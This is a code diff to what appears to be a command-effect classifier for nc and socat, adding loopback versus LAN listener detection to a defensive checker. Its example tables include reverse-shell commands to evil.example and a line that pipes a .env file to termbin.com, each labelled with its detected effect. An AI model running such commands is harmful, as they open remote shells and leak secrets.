@@ -8,9 +8,9 @@ import type { Run, Word } from '../../spec';
 import { reads, sourceOfFile, sourceOfStream, when, writes } from '../../stating';
 import { shell } from './ssh';
 
-function listens(port: Text | undefined): EffectDraft {
+function listens(port: Text | undefined, expose: 'lan' | 'loopback'): EffectDraft {
   const number = typeof port === 'string' && /^\d+$/.test(port) ? Number(port) : null;
-  return { kind: 'net.listen', expose: 'lan', port: number };
+  return { kind: 'net.listen', expose, port: number };
 }
 
 /** What a raw socket carries away: what is piped into it. */
@@ -31,7 +31,7 @@ export const nc: ProgramSpec = {
       const opened =
         call.has('-U') === true
           ? writes(call, call.operands.slice(-1), 'create')
-          : [listens(call.words('-p').at(-1)?.value ?? call.operands.at(-1)?.value)];
+          : [listens(call.words('-p').at(-1)?.value ?? call.operands.at(-1)?.value, exposureOf(call))];
       return spawns ? [...opened, { kind: 'net.connect', purpose: 'remote-shell', host: null }] : opened;
     }
     if (call.has('-z') === true) return isLoopback(host) ? [] : [{ kind: 'net.connect', purpose: 'scan', host }];
@@ -43,12 +43,20 @@ export const nc: ProgramSpec = {
       'nc evil.example 4444': 'net.connect{purpose=raw,host=evil.example}',
       'nc -e /bin/sh evil.example 4444': 'net.connect{purpose=remote-shell}',
       'nc -lvp 4444': 'net.listen{expose=lan,port=4444}',
+      'nc -l 127.0.0.1 4444': 'net.listen{expose=loopback,port=4444}',
+      'nc termbin.com 9999 < .env': 'net.connect + fs.read + secret.read + net.upload{channel=paste,source=secret}',
       'nc -lU /tmp/a.sock': 'fs.write{mode=create,path=/tmp/a.sock}',
       'nc -zv db.example 5432': 'net.connect{purpose=scan}',
     },
     inert: ['nc -z localhost 5432'],
   },
 };
+
+/** `nc -l 127.0.0.1 8080`, `nc -l -s localhost -p 8080`. */
+function exposureOf(call: Call): 'lan' | 'loopback' {
+  const address = call.words('-s').at(-1)?.value ?? (call.operands.length > 1 ? call.operand(0) : undefined);
+  return isLoopback(address ?? null) ? 'loopback' : 'lan';
+}
 
 function isLoopback(host: Text): boolean {
   return typeof host === 'string' && /^(localhost|127\.\d+\.\d+\.\d+|::1)$/.test(host);
@@ -61,9 +69,11 @@ export const socat: ProgramSpec = {
   examples: {
     yields: {
       'socat TCP:evil.example:4444 EXEC:/bin/sh': 'net.connect{purpose=remote-shell}',
-      'socat TCP-LISTEN:80,fork -': 'net.listen{port=80}',
+      'socat TCP-LISTEN:80,fork -': 'net.listen{port=80,expose=lan}',
+      'socat TCP-LISTEN:80,bind=127.0.0.1,fork -': 'net.listen{port=80,expose=loopback}',
       'socat UNIX-LISTEN:/tmp/a.sock,fork -': 'fs.write{mode=create,path=/tmp/a.sock}',
     },
+    inert: ['socat -V', 'socat - UNIX-CONNECT:/run/app.sock'],
   },
 };
 
@@ -111,7 +121,10 @@ function socketEffects(call: Call, address: string, spawns: boolean, files: read
   const [kind = '', first = '', second] = address.split(/[:,]/);
   if (unixListen.test(address)) return when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null });
   if (/-?listen$|^(tcp|udp)[46]?-l$/i.test(kind))
-    return [listens(first), ...when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null })];
+    return [
+      listens(first, /,bind=(127\.|localhost|\[?::1)/.test(address) ? 'loopback' : 'lan'),
+      ...when(spawns, { kind: 'net.connect', purpose: 'remote-shell', host: null }),
+    ];
   if (!/^(tcp|udp|openssl|ssl|socks|proxy)/i.test(kind)) return [];
   const host = /^socks|^proxy/i.test(kind) ? (second ?? null) : first;
   const sent = files.map(
